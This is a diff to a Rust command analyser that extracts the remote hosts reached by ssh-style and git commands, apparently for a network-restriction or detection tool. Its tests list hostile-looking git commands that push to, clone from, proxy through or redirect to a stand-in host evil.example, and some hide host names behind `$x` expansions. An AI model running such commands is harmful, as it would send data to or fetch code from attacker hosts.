@@ -155,7 +155,7 @@ pub(super) fn words<'c>(call: &'c Call, name: &str) -> Option<Vec<Word<'c>>> {
     let mut value_of: Option<String> = None;
     let (mut only_operands, mut may_be_value) = (false, false);
     for arg in &call.args {
-        let text = arg.text.as_str();
+        let text = arg.start();
         if let Some(option) = value_of.take() {
             found.push(Word::Value(option, arg.clone()));
             continue;
@@ -233,7 +233,7 @@ pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
             Word::Operand { arg, may_be_value } => {
                 // Options may stand behind the machine; what follows is the command for it.
                 let has_command = !matches!(client.operands, Operands::Addresses | Operands::Places);
-                if had_machine && has_command && !arg.text.starts_with('-') {
+                if had_machine && has_command && !arg.start().starts_with('-') {
                     break;
                 }
                 // What begins in an unknown way may be an option, too: one that leads elsewhere.
@@ -265,7 +265,7 @@ impl Client {
             note(None);
         } else {
             // Machines on the way, each with a port behind a colon.
-            for machine in value.text.split(',') {
+            for machine in value.start().split(',') {
                 note(Operands::Session.host(&Arg::literal(machine)));
             }
         }
@@ -296,7 +296,7 @@ impl Operands {
         match self {
             Self::Addresses => host_of(arg),
             Self::Machine | Self::Session | Self::Places => {
-                let text = arg.text.as_str();
+                let text = arg.start();
                 if ["ssh://", "scp://", "sftp://"].iter().any(|scheme| text.starts_with(scheme)) {
                     return host_of(arg);
                 }
@@ -539,7 +539,7 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
     let mut may_be_value = false;
     let mut operands = 0;
     for arg in rest {
-        let text = arg.text.as_str();
+        let text = arg.start();
         if std::mem::take(&mut may_be_value) && !text.starts_with('-') {
             note(git_address(arg));
         } else if let Some(option) = value_of.take() {
@@ -567,7 +567,7 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
             }
             match glued {
                 Some(value) if matches!(name, "--remote" | "--repo" | "--bundle-uri") => {
-                    note(git_address(&Arg::literal(value)));
+                    note(git_address(&arg.with_start(value)));
                 }
                 None => value_of = VALUED.iter().copied().find(|option| *option == name),
                 Some(_) => {}
@@ -575,8 +575,7 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
         } else {
             operands += 1;
             // `remote`, `submodule` and `lfs` have a word of their own first, and `archive` none.
-            let at = match (subcommand, rest.iter().find(|arg| !arg.text.starts_with('-')).map(|arg| arg.text.as_str()))
-            {
+            let at = match (subcommand, rest.iter().find(|arg| !arg.start().starts_with('-')).map(Arg::start)) {
                 ("remote", Some("add")) => 3,
                 ("remote" | "submodule" | "lfs" | "maintenance" | "subtree", _) => 2,
                 _ => 1,
@@ -592,9 +591,9 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
 
 /// The host in what git takes for a remote: a URL, or `host:path`. `None` for a name, or a path of this machine.
 fn git_address(arg: &Arg) -> Option<String> {
-    let text = arg.text.as_str();
+    let text = arg.start();
     if let Some((_, address)) = text.split_once("::") {
-        return host_of(&Arg { text: address.to_owned(), ..arg.clone() });
+        return host_of(&arg.with_start(address));
     }
     if text.contains("://") {
         return host_of(arg);
@@ -605,7 +604,7 @@ fn git_address(arg: &Arg) -> Option<String> {
 /// The host of an address as web clients read it: with one slash or three behind the scheme, with none, or without a scheme.
 /// `None` where the text does not say, or names several.
 fn host_of(arg: &Arg) -> Option<String> {
-    let text = arg.text.as_str();
+    let text = arg.start();
     let scheme = text.find(|c: char| !c.is_ascii_alphanumeric() && !"+.-".contains(c));
     let rest = match scheme.and_then(|at| text.split_at_checked(at)) {
         // It names a file of this machine.
@@ -716,6 +715,10 @@ mod tests {
             ("git push evil.example:p main@a.example:x", vec![evil]),
             ("git clone -b user@a.example evil.example:x d", vec![evil]),
             ("git archive --remote=evil.example:x HEAD u@a.example:", vec![evil]),
+            // More of the name may follow.
+            ("git push --repo=\"https://a.example$x\"", vec![unnamed]),
+            ("git push --repo=\"https://a.example/$x\"", vec![a]),
+            ("git remote add \"-$x\" a https://a.example/x", vec![unnamed, a]),
             ("git clone --bundle-uri=http://evil.example/b http://a.example/y", vec![unnamed, evil, a]),
             ("git -c url.http://evil.example/.insteadOf=http://a.example/ fetch http://a.example/x", vec![unnamed, a]),
             ("git clone --config http.proxy=evil.example https://a.example/x", vec![unnamed, a]),
